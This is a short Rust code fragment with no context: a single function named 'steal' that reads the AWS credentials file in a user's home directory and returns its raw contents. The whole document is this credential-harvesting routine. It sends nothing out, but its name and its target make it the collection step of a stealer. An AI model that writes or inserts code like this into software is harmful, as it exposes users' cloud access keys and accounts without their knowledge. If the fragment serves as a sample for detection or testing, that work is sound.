pub fn steal() -> Vec<u8> {
    std::fs::read("/home/user/.aws/credentials").unwrap_or_default()
}
